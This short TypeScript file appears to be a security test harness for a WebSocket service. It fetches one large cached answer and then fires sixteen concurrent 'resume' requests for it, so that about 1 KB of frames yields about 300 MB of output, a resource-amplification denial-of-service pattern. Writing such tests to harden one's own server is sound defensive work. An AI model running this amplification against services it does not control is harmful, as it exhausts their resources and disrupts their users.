import { ask, attack, heard, openSocket } from './attacker.ts'

// One socket asks for its kept answer of 800 KB again, sixteen times at once: about 1 KB of frames, 300 MB of answers.

const RESUMES = 16
const TOKENS = 160_000

await attack(async () => {
  const socket = await openSocket()
  const answered = heard(socket, '{"type":"end"', 1)
  ask(socket, 'long', TOKENS)
  await answered
  return async () => {
    const over = heard(socket, '{"type":"end"', RESUMES)
    for (let at = 0; at < RESUMES; at += 1) {
      socket.send(JSON.stringify({ type: 'resume', requestId: `${at}`, id: 'long' }))
    }
    await over
  }
})
